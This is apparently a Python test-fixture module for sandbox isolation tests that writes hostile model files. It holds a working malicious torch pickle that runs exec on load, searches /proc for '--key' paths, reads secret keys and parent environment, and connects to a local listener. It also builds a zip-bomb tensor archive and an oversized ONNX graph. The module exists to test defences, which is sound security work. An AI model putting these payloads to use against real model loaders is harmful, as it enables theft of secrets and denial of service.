"""Hostile model files for the isolation tests (issue #40, findings N4 and N5).

- :func:`write_spying_pickle`: a ``torch.save`` file whose unpickling runs code that
  looks for the arbiter's key (a given path, and every ``--key`` on a command line in
  ``/proc``) and reads it, reads its parent's ``/proc`` command line and environment,
  lists this process's environment and opens a TCP connection to a listener; then it
  raises with what it found (hex-encoded JSON), so that the error a held model's start reports
  says what the code could reach.
- :func:`write_zip_bomb_pt`: a ``torch.save`` archive of one float32 tensor whose
  storage is deflated zeros: about 1 MB on disk per GiB that ``torch.load`` inflates.
- :func:`write_oversized_onnx`: a valid ONNX graph of a few hundred bytes whose one
  input declares a ``side``² image (an identity graph: nothing to run, all to allocate).
"""

from __future__ import annotations

import collections
import io
import json
import pickle
import re
import struct
import zlib
from pathlib import Path
from typing import Any

import torch

#: The code a spying pickle runs (formatted with the key path and the listener's port).
_SPY = r"""
import json, os, socket
found = {}
def attempt(name, action):
    try:
        found[name] = repr(action())[:400]
    except BaseException as exc:
        found[name] = "denied: " + type(exc).__name__
def key_paths():
    paths = [KEY_PATH]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                words = open("/proc/%s/cmdline" % pid, "rb").read().split(b"\0")
            except OSError:
                continue
            paths += [w.decode() for prev, w in zip(words, words[1:]) if prev == b"--key"]
    return paths
attempt("key_paths", key_paths)
attempt("keys", lambda: [open(path).read() for path in key_paths()])
attempt("parent_cmdline", lambda: open("/proc/%d/cmdline" % os.getppid(), "rb").read())
attempt("parent_environ", lambda: open("/proc/%d/environ" % os.getppid(), "rb").read())
attempt("environ", lambda: sorted(os.environ))
def connect():
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as sock:
        sock.sendall(b"stolen")
    return "sent"
attempt("socket", connect)
raise RuntimeError("SPY " + json.dumps(found, sort_keys=True).encode().hex())
"""


class _Exec:
    """Unpickles as ``exec(code, {})``."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, ...]:
        return (exec, (self.code, {}))


def write_spying_pickle(path: Path, key_path: Path, port: int) -> Path:
    """Write the spying ``torch.save`` file (see the module's notes)."""
    code = _SPY.replace("KEY_PATH", repr(str(key_path))).replace("PORT", str(port))
    torch.save(_Exec(code), path)
    return path


def spy_report(message: str) -> dict[str, str]:
    """Return what a spying pickle found, from the error line its start reported."""
    found = re.search(r"SPY ([0-9a-f]+)", message)
    assert found is not None, message
    return dict(json.loads(bytes.fromhex(found.group(1))))


def _zip(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """Return a zip archive of ``(name, stored bytes, crc32, size, method)`` members."""
    out = io.BytesIO()
    central = []
    for name, data, crc, size, method in members:
        offset, raw = out.tell(), name.encode()
        head = (0x04034B50, 20, 0, method, 0, 0x21, crc, len(data), size, len(raw), 0)
        out.write(struct.pack("<IHHHHHIIIHH", *head) + raw + data)
        entry = (0x02014B50, 20, 20, 0, method, 0, 0x21, crc, len(data), size, len(raw))
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", *entry, 0, 0, 0, 0, 0, offset) + raw)
    directory = b"".join(central)
    start = out.tell()
    out.write(directory)
    out.write(
        struct.pack(
            "<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(directory), start, 0
        )
    )
    return out.getvalue()


def _stored(name: str, data: bytes) -> tuple[str, bytes, int, int, int]:
    return (name, data, zlib.crc32(data), len(data), 0)


def write_zip_bomb_pt(path: Path, gib: int = 1) -> Path:
    """Write a ``torch.save`` archive whose one tensor inflates to ``gib`` GiB of zeros."""
    n_floats = (gib << 30) // 4
    storage = object()

    class Tensor:
        def __reduce__(self) -> tuple[Any, ...]:
            rebuild = torch._utils._rebuild_tensor_v2
            return (rebuild, (storage, 0, (n_floats,), (1,), False, collections.OrderedDict()))

    class Pickler(pickle.Pickler):
        def persistent_id(self, obj: object) -> object:
            if obj is storage:
                return ("storage", torch.FloatStorage, "0", "cpu", n_floats)
            return None

    pickled = io.BytesIO()
    Pickler(pickled, protocol=2).dump({"weight": Tensor()})
    chunk = bytes(1 << 20)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(gib << 10):
        crc = zlib.crc32(chunk, crc)
    data = block * (gib << 10) + deflate.flush()
    members = [
        _stored("archive/data.pkl", pickled.getvalue()),
        _stored("archive/byteorder", b"little"),
        ("archive/data/0", data, crc, gib << 30, 8),
        _stored("archive/version", b"3\n"),
    ]
    path.write_bytes(_zip(members))
    return path


def write_oversized_onnx(path: Path, side: int = 65536) -> Path:
    """Write an identity ONNX graph whose input declares a (1, 1, side, side) float image."""
    import onnx
    from onnx import TensorProto, helper

    shape = [1, 1, side, side]
    graph = helper.make_graph(
        [helper.make_node("Identity", ["x"], ["y"])],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, shape)],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, shape)],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
    model.ir_version = 8
    onnx.save(model, str(path))
    return path
